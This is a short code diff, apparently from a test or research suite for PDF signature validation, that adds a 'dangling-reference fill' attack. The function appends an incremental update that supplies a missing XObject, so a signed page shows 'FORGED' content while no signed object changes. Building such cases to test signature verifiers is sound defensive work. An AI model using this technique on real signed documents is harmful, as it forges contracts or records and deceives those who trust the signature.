@@ -268,3 +268,13 @@ export function reasonSpoof(pdf: Buffer): Buffer {
   const body = editDict(s.entry.dict, { Reason: '(Spoofed reason)' });
   return appendUpdate(pdf, { objects: [{ num: s.entry.sigRef!.num, body }] });
 }
+
+/**
+ * Dangling-reference fill: the signed page names an XObject whose object does not exist yet; the update
+ * only adds that object (no signed object changes), so the page suddenly draws it. `pdf` must come from
+ * `danglingBase()` and be signed.
+ */
+export function danglingFill(pdf: Buffer): Buffer {
+  const img = 'q 1 0 0 rg 0 0 200 100 re f Q BT /F1 18 Tf 10 40 Td (FORGED) Tj ET';
+  return appendUpdate(pdf, { objects: [{ num: 99, body: `<</Type /XObject /Subtype /Form /BBox [0 0 200 100] /Length ${img.length}>>\nstream\n${img}\nendstream` }] });
+}
